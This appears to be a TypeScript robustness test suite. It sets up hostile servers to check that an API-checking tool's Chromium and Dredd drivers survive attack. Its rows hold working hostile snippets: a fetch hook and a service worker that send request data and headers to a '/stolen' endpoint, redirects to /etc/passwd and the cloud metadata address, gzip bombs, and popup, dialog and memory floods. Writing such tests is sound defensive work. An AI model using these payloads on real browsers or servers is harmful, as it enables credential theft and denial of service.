import { on } from '../fault-kit/on.ts';
import { withHeader } from '../fault-kit/responses.ts';
import * as kit from './kit.ts';

/** What Chromium is answered; every other client meets the reference. */
function toChromium(serve: kit.Serve, more: Pick<kit.Scene, 'elsewhere'> = {}): kit.Scene {
  return { ...driven('browser', '--no-dredd'), serves: kit.forAgent(/Chrome/, serve), ...more };
}

function toDredd(serve: kit.Serve): kit.Scene {
  return { ...driven('dredd', '--no-browser'), serves: kit.forAgent(/dredd/i, serve) };
}

function salesToDredd(body: () => string): kit.Scene {
  return toDredd(kit.at('/sales', kit.json(body)));
}

function driven(area: string, without: string): kit.Scene {
  return {
    command: ({ url }) => ['check', url, '--only', area, without, '--max-duration', '45s', '--format', 'html,json'],
    says: kit.ANY_VERDICT,
    within: 600,
  };
}

/** The reference, except for the description, which is this page. */
function page(script: string | ((stage: kit.Stage) => string)): kit.Serve {
  const text = (stage: kit.Stage) =>
    `<!doctype html><script>${typeof script === 'string' ? script : script(stage)}</script>`;
  return document(kit.answers(200, { 'content-type': 'text/html' }, text));
}

function document(serve: kit.Serve): kit.Serve {
  return kit.choose(({ url = '' }) => url === `${kit.API}/openapi.json`, serve);
}

function me(serve: kit.Serve, otherwise?: kit.Serve): kit.Serve {
  return kit.choose(({ url = '' }) => url === `${kit.API}/me`, serve, otherwise);
}

const ATTACHED = ['content-disposition: attachment; filename=x'];
const ALLOWED = ['access-control-allow-origin: *', 'access-control-allow-headers: authorization'];

const meElsewhere: kit.Serve = kit.redirects(({ elsewhere }) => `${elsewhere}/me`, 307);

/** Sends what is asked through fetch in a window to its own origin. */
const STEAL = `function steal(w) { try { const real = w.fetch; if (real.isHooked) return; w.fetch = (u, o) => { navigator.sendBeacon('/stolen', JSON.stringify(o)); return real(u, o); }; w.fetch.isHooked = true; } catch {} }`;

/** The page of a third origin that hooks fetch, and opens a popup which leads it back. */
const thief: kit.Serve =
  ({ url }) =>
  (request, response) => {
    response.setHeader('content-type', 'text/html');
    response.setHeader('access-control-allow-origin', '*');
    response.setHeader('access-control-allow-headers', '*');
    const popup = `setInterval(() => steal(opener), 3); setTimeout(() => { opener.location = '${url}${kit.API}/openapi.json'; }, 300);`;
    const opener = `steal(window); open('/popup'); document.onclick = () => open('/popup');`;
    response.end(`<!doctype html><script>${STEAL}; ${request.url === '/popup' ? popup : opener}</script>`);
  };

/** Where a page would be next, again and again. */
const PUSHES = `setInterval(() => history.pushState(1, '', '?' + Math.random()), 5)`;

export const driverRows = kit.hostileTable`
  # Deployments that are hostile to Chromium alone
  0,1,3 browser-sent-to-a-thief: The description leads to a page that hooks fetch and opens a popup
    ${toChromium(document(kit.redirects(({ elsewhere }) => `${elsewhere}/thief`)), { elsewhere: thief })}
  0,1,3 browser-sent-away-with-the-key: The answer to a request with the key leads to another origin
    ${toChromium(me(meElsewhere))}
  0,1,3 browser-preflight-sent-away: The preflight leads to another origin
    ${toChromium(kit.choose(({ method }) => method === 'OPTIONS', meElsewhere))}
  0,1,3 browser-endless-download: The description is a file to save that has no end, and /me is slow
    ${toChromium(me(kit.dripping, document(kit.endless('application/octet-stream', '', ATTACHED))))}
  0,1,3 browser-many-downloads: A page saves one file after the other
    ${toChromium(page(`setInterval(() => { const a = document.createElement('a'); a.href = URL.createObjectURL(new Blob([new Uint8Array(5e6)])); a.download = 'x'; a.click(); }, 20)`))}
  0,1,3 browser-endless-page: A page without an end ${toChromium(document(kit.endless('text/html', '<!doctype html><p>')))}
  0,1,3 browser-endless-me: The answer to a request with the key has no end
    ${toChromium(me(kit.endless('application/json', '{"data":"', ALLOWED)))}
  0,1,3 browser-bomb: The description is half a gigabyte, packed
    ${toChromium(document(kit.answers(200, { 'content-encoding': 'gzip', 'content-type': 'text/html' }, kit.BOMB)))}
  0,1,3 browser-hanging-document: The description never comes ${toChromium(document(kit.holds))}
  0,1,3 browser-slow-document: The description comes at one byte a second
    ${toChromium(document(kit.sends(kit.head(['content-type: text/html']), kit.drips(1000))))}
  0,1,3 browser-loop: The description leads to itself
    ${toChromium(document(kit.redirects(({ url }) => `${url}${kit.API}/openapi.json`)))}
  0,1,3 browser-sent-to-a-file: The description leads to a file of this machine
    ${toChromium(document(kit.redirects('file:///etc/passwd')))}
  0,1,3 browser-sent-to-metadata: The description leads to the credentials of a cloud machine
    ${toChromium(document(kit.redirects('http://169.254.169.254/latest/meta-data/')))}
  0,1,3 browser-popups: A page opens windows as fast as it can
    ${toChromium(page(`setInterval(() => open('${kit.API}/openapi.json'), 10)`))}
  0,1,3 browser-dialogs: A page shows one dialog after the other, and another when it is left
    ${toChromium(page(`onbeforeunload = () => { alert(1); return 'stay'; }; setInterval(() => { alert(1); confirm(2); prompt(3); print(); }, 10)`))}
  0,1,3 browser-busy-page: A page computes for ever ${toChromium(page('for (;;) {}'))}
  0,1,3 browser-greedy-page: A page takes all memory that it can get
    ${toChromium(page('const all = []; setInterval(() => all.push(new Uint8Array(2e7).fill(1)), 10)'))}
  0,1,3 browser-asks-elsewhere: A page that loads pictures, frames, sockets and pings from another origin
    ${toChromium(page(({ elsewhere }) => `document.write('<img src=${elsewhere}/i><iframe src=${elsewhere}/f></iframe><link rel=prefetch href=${elsewhere}/p>'); new WebSocket('${elsewhere.replace('http', 'ws')}/w'); navigator.sendBeacon('${elsewhere}/b'); fetch('${elsewhere}/x', { mode: 'no-cors' })`))}
  0,1,3 browser-leads-on: A page that goes to another origin by itself, and again after that
    ${toChromium(
      page(({ elsewhere }) => `setTimeout(() => { location = '${elsewhere}/thief'; }, 50); ${PUSHES}`),
      { elsewhere: thief },
    )}
  0,1,3 browser-worker: A page registers a service worker that would answer in place of the deployment
    ${toChromium(
      kit.choose(
        ({ url = '' }) => url.includes('/openapi.json'),
        (stage) => (request, response) => {
          const isWorker = request.headers['service-worker'] !== undefined;
          response.setHeader('content-type', isWorker ? 'text/javascript' : 'text/html');
          response.setHeader('service-worker-allowed', '/');
          response.end(
            isWorker
              ? `onfetch = (e) => fetch('${stage.elsewhere}/stolen?' + [...e.request.headers])`
              : `<script>navigator.serviceWorker.register('${kit.API}/openapi.json?sw', { scope: '/' })</script>`,
          );
        },
      ),
    )}
  0,1,3 browser-cookies: A thousand cookies with every answer, one with the key
    ${toChromium(kit.withHeaders((stage) => ({ 'set-cookie': [`key=${kit.keyOf(stage)}`, `${kit.keyOf(stage)}=1`, ...Array.from({ length: 998 }, (_, index) => `c${index}=${'v'.repeat(20)}; Max-Age=9999999`)] })))}
  0,1,3 browser-status-999: Chromium is answered with 999 ${toChromium(kit.status('999 X'))}
  0,1,3 browser-resets: Every connection of Chromium is reset ${toChromium(kit.resets)}
  0,1,3 browser-refresh-headers: Headers lead on, and name other hosts for later
    ${toChromium(kit.withHeaders(({ elsewhere }) => ({ refresh: `0; url=${elsewhere}/refreshed`, link: `<${elsewhere}/style.css>; rel=preload; as=style`, 'alt-svc': `h2="${new URL(elsewhere).host}"` })))}
  # Deployments that are hostile to Dredd alone
  1,3 dredd-endless-body: Every body for Dredd goes on for ever ${toDredd(kit.endless())}
  1,3 dredd-bomb: Every body is half a gigabyte, packed ${toDredd(kit.packed('gzip', kit.BOMB))}
  1,3 dredd-slow-body: Every body comes at one byte a second ${toDredd(kit.dripping)}
  1,3 dredd-slow-header: A header that comes at one byte a second, and has no end
    ${toDredd(kit.sends('HTTP/1.1 200 OK\r\nx-slow: ', kit.drips(1000)))}
  1,3 dredd-redirect: Every request of Dredd is redirected to another origin, with the key in the address
    ${toDredd(kit.leadsElsewhere(307, (stage) => `?key=${kit.keyOf(stage)}`))}
  1,3 dredd-header-flood: Headers without an end ${toDredd(kit.headerFlood)}
  1,3 dredd-status-099: Every status is 099 ${toDredd(kit.status('099 X'))}
  1,3 dredd-resets: Every connection is reset ${toDredd(kit.resets)}
  1,3 dredd-continue-storm: 100 Continue for ever ${toDredd(kit.continueStorm)}
  1,3 dredd-deep-body: Every body is a million lists within each other
    ${toDredd(kit.json(`{"data":${'['.repeat(1_000_000)}${']'.repeat(1_000_000)}}`))}
  1,3 dredd-wrong-records: The list of sales has fifteen million wrong records
    ${salesToDredd(() => `{"data":[${'0,'.repeat(15e6)}0]}`)}
  1,3 dredd-wide-record: A record of the list of sales has fifteen million values
    ${salesToDredd(() => `{"data":[[${'0,'.repeat(15e6)}0]]}`)}
  1,3 dredd-text: The list of sales is 31 MB that are not JSON ${salesToDredd(() => 'a'.repeat(31e6))}
  1,3 dredd-echo: Every body and header repeats the key and a customer
    ${toDredd(
      kit.over((handle, deployment) => {
        const key = kit.keyOf(deployment);
        return on.anything.changeResponse((response, { request: { headers } }) => {
          const body = JSON.stringify({ [key]: kit.PERSON, data: [{ [kit.PERSON.email]: headers, [key]: 1 }] });
          return { ...withHeader(response, 'x-key', key), body };
        })(handle);
      }),
    )}
`;
